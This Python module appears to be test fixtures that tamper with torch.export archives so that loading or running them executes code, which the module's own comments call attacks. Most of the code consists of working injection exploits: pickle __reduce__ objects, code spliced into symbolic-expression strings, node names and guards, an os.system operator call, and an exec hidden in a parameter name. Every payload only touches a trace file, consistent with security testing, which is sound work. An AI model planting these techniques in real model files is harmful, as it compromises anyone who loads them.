"""Archives that run code when torch loads them: each a change of the parts of an honest one."""

import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn

AUTO, STATIC = torch.export.Dim.AUTO, torch.export.Dim.STATIC


class Victim(nn.Module):
    """Has symbolic sizes, a buffer, a constant, and a string among its operators' arguments."""

    def __init__(self) -> None:
        super().__init__()
        self.first, self.last = nn.Linear(4, 8), nn.Linear(8, 2)
        self.register_buffer("shift", torch.arange(8.0))
        self.gate = nn.GELU(approximate="tanh")

    def forward(self, x):
        h = (self.first(x) + self.shift).relu().reshape(x.shape[0], 2, 4).flatten(1)
        return {"out": self.last(self.gate(h)) + torch.tensor([1.0, 2.0])}


def exported(
    model: nn.Module, *example: Any, shapes: Any = ((AUTO, STATIC),), **options: Any
) -> torch.export.ExportedProgram:
    return torch.export.export(model.eval(), example or (torch.zeros(6, 4),), dynamic_shapes=shapes, **options)


def entries(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(name.split("/", 1)[1], archive.read(name)) for name in archive.namelist()]


def write(path: Path, parts: list[tuple[str, bytes]]) -> None:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")  # of names that are there twice
        for name, data in parts:
            archive.writestr(f"archive/{name}", data)


PROGRAM, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, SAMPLES = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


def graph(program: dict[str, Any]) -> dict[str, Any]:
    return program["graph_module"]["graph"]


def with_symbols(value: Any, found: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """All symbolic expressions in a document."""
    if isinstance(value, dict):
        if "expr_str" in value:
            found.append(value)
        for part in value.values():
            with_symbols(part, found)
    elif isinstance(value, list):
        for part in value:
            with_symbols(part, found)
    return found


def rename(value: Any, old: str, new: str) -> Any:
    """A document with a name of a node changed wherever it stands."""
    if isinstance(value, dict):
        return {(new if key == old else key): rename(part, old, new) for key, part in value.items()}
    if isinstance(value, list):
        return [rename(part, old, new) for part in value]
    return new if value == old else value


class Trap:
    def __init__(self, trace: str) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path(self.trace),)


def pickled(trace: str) -> bytes:
    buffer = io.BytesIO()
    torch.save((Trap(trace),), buffer)
    return buffer.getvalue()


def touch(trace: str) -> str:
    return f"__import__('pathlib').Path('{trace}').touch()"


# Attacks: each changes the parts of an honest archive so that loading it, or running it, leaves a trace.


def on_program(change: Callable[[dict[str, Any], str], Any]) -> Callable[[dict[str, bytes], str], None]:
    def attack(parts: dict[str, bytes], trace: str) -> None:
        document = json.loads(parts[PROGRAM])
        document = change(document, trace) or document
        parts[PROGRAM] = json.dumps(document).encode()

    return attack


def size_of_tensor(program, trace):
    size = graph(program)["tensor_values"]["linear"]["sizes"][0]["as_expr"]
    size["expr_str"] = f"{touch(trace)} or {size['expr_str']}"


def stride_of_tensor(program, trace):
    graph(program)["tensor_values"]["linear"]["strides"][0] = {
        "as_expr": {"expr_str": f"{touch(trace)} or 8", "hint": None}
    }


def symbolic_integer(program, trace):
    for value in graph(program)["sym_int_values"].values():
        value["as_expr"]["expr_str"] = f"{touch(trace)} or {value['as_expr']['expr_str']}"


def symbolic(kind):
    def change(program, trace):
        node = next(node for node in graph(program)["nodes"] if "sym_size" in node["target"])
        integer = node["outputs"][0]["as_sym_int"]["as_name"]
        form = {"float": "1.5 * (s1 + 1)", "bool": "s1 > 0"}[kind]
        graph(program)[f"sym_{kind}_values"]["evil"] = {
            "as_expr": {"expr_str": f"{touch(trace)} or {form}", "hint": None}
        }
        target = {"float": "torch.sym_float", "bool": "_operator.gt"}[kind]
        inputs = [{"name": "", "arg": {"as_sym_int": {"as_name": integer}}, "kind": 1}] * (1 + (kind == "bool"))
        output = {"float": "as_sym_float", "bool": "as_sym_bool"}[kind]
        new = {
            "target": target,
            "inputs": inputs,
            "outputs": [{output: {"as_name": "evil"}}],
            "metadata": {},
            "name": "evil",
        }
        nodes = graph(program)["nodes"]
        nodes.insert(nodes.index(node) + 1, new)

    return change


def expression_in_a_list(program, trace):  # sympy walks lists, and evaluates the strings in them
    graph(program)["tensor_values"]["linear"]["sizes"][0]["as_expr"]["expr_str"] = [touch(trace)]


def operator(target: str, arguments: list[dict[str, Any]]):
    def change(program, trace):
        node = next(node for node in graph(program)["nodes"] if node["target"] == "torch.ops.aten.relu.default")
        node.update(target=target, is_hop_single_tensor_return=True)
        text = json.dumps([{"name": "", "arg": argument, "kind": 1} for argument in arguments])
        node["inputs"] = json.loads(text.replace("TRACE", trace))

    return change


def reads_a_file(program, trace):
    node = next(node for node in graph(program)["nodes"] if node["target"] == "torch.ops.aten.relu.default")
    node["target"] = "torch.ops.aten.from_file.default"
    node["inputs"] = [
        {"name": "filename", "arg": {"as_string": trace}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
        {"name": "size", "arg": {"as_int": 48}, "kind": 1},
    ]


def name_of_an_input(program, trace):
    return rename(program, "x", f"x, _={touch(trace)}")


def name_of_a_node(program, trace):
    node = next(node for node in graph(program)["nodes"] if node["target"] == "torch.ops.aten.relu.default")
    return rename(program, node["outputs"][0]["as_tensor"]["name"], f"_ = {touch(trace)}; relu_")


def signature(program):
    return program["graph_module"]["module_call_graph"][0]["signature"]


def tree_that_imports(context):
    def change(program, trace):
        Path("imported_by_a_tree.py").write_text(f"import enum\n{touch(trace)}\nclass Name(enum.Enum):\n    out = 1\n")
        tree = json.loads(signature(program)["out_spec"])
        tree[1].update(context)
        signature(program)["out_spec"] = json.dumps(tree)

    return change


ENUM = {"context": '[{"__enum__": true, "fqn": "imported_by_a_tree:Name", "name": "out"}]'}
FACTORY = {"default_factory_module": "imported_by_a_tree", "default_factory_name": "Name", "dict_context": ["out"]}


def keyword_of_the_model(program, trace):
    leaf = {"type": None, "context": None, "children_spec": []}
    kind, (positional, keywords) = (
        json.loads(signature(program)["in_spec"])[0],
        json.loads(signature(program)["in_spec"])[1]["children_spec"],
    )
    positional["children_spec"] = []
    keywords.update(context=json.dumps([f"x':{touch(trace)}, 'x"]), children_spec=[leaf])
    signature(program)["in_spec"] = json.dumps(
        [kind, {"type": "builtins.tuple", "context": "null", "children_spec": [positional, keywords]}]
    )


def argument_of_forward(program, trace):  # the name is written twice: what is between is a string
    signature(program)["forward_arg_names"] = [f"x={touch(trace)}):\n    '''#"]


def guard(program, trace):
    program["guards_code"] = [f"not {touch(trace)}"]


def name_of_a_parameter(parts: dict[str, bytes], trace: str) -> None:
    code = tuple(touch(trace).encode())  # the name is split at its dots
    name = f'first.x", exec(bytes({code}))) or (lambda *_: None)("'
    for part in (PROGRAM, WEIGHTS):
        parts[part] = json.dumps(rename(json.loads(parts[part]), "first.weight", name)).encode()


CALLS = "torch.ops.higher_order.wrap_with_set_grad_enabled"
IN_THE_PROGRAM: dict[str, tuple[Callable[[dict[str, Any], str], Any], str | None]] = {
    "the size of a tensor": (size_of_tensor, "load"),
    "the stride of a tensor": (stride_of_tensor, "load"),
    "a symbolic integer": (symbolic_integer, "load"),
    "a symbolic float": (symbolic("float"), "load"),
    "a symbolic bool": (symbolic("bool"), "load"),
    "a list where an expression is expected": (expression_in_a_list, None),
    "a function of the standard library": (operator("torch.os.system", [{"as_string": "touch TRACE"}]), None),
    "a function of torch that writes": (operator("torch.save", [{"as_string": "x"}, {"as_string": "TRACE"}]), None),
    "a function that an operator calls": (
        operator(CALLS, [{"as_bool": True}, {"as_operator": "torch.os.makedirs"}, {"as_string": "TRACE"}]),
        None,
    ),
    "an operator that maps a file": (reads_a_file, "run"),
    "the name of an input": (name_of_an_input, "load"),
    "the name of a node": (name_of_a_node, None),
    "an enum in a tree": (tree_that_imports(ENUM), "load"),
    "a factory in a tree": (tree_that_imports({"type": "collections.defaultdict", "context": FACTORY}), "load"),
    "a keyword of the model": (keyword_of_the_model, None),
    "the name of an argument": (argument_of_forward, "run"),
}


def with_config(
    config: str, folder: str, payload: dict[str, Any], name: str
) -> Callable[[dict[str, bytes], str], None]:
    def attack(parts: dict[str, bytes], trace: str) -> None:
        document = json.loads(parts[config])
        entry = next(iter(document["config"]))
        document["config"][entry].update(payload)
        parts[config] = json.dumps(document).encode()
        parts[f"data/{folder}/{payload.get('path_name', name)}"] = pickled(trace)

    return attack


def opaque_object(parts: dict[str, bytes], trace: str) -> None:
    with_config(CONSTANTS, "constants", {"path_name": "opaque_obj_0", "use_pickle": True, "tensor_meta": None}, "")(
        parts, trace
    )
    parts["data/constants/opaque_obj_0"] = pickle.dumps(Trap(trace))


def pickle_beside_the_weights(folder: str):
    def attack(parts: dict[str, bytes], trace: str) -> None:
        parts[f"data/{folder}/model.pt"] = pickled(trace)

    return attack


IN_OTHER_PARTS: dict[str, tuple[Callable[[dict[str, bytes], str], None], str | None]] = {
    "pickled weights": (with_config(WEIGHTS, "weights", {"use_pickle": True}, "weight_0"), "load"),
    "pickled constants": (with_config(CONSTANTS, "constants", {"use_pickle": True}, "tensor_0"), "load"),
    "an opaque object": (opaque_object, "load"),
    "an object of C++": (
        with_config(CONSTANTS, "constants", {"path_name": "custom_obj_0", "use_pickle": True}, ""),
        None,
    ),
    "a pickle beside the weights": (pickle_beside_the_weights("weights"), "load"),
    "a pickle beside the constants": (pickle_beside_the_weights("constants"), "load"),
    "the name of a parameter": (name_of_a_parameter, "run"),
}
ATTACKS = {name: (on_program(change), how) for name, (change, how) in IN_THE_PROGRAM.items()} | IN_OTHER_PARTS
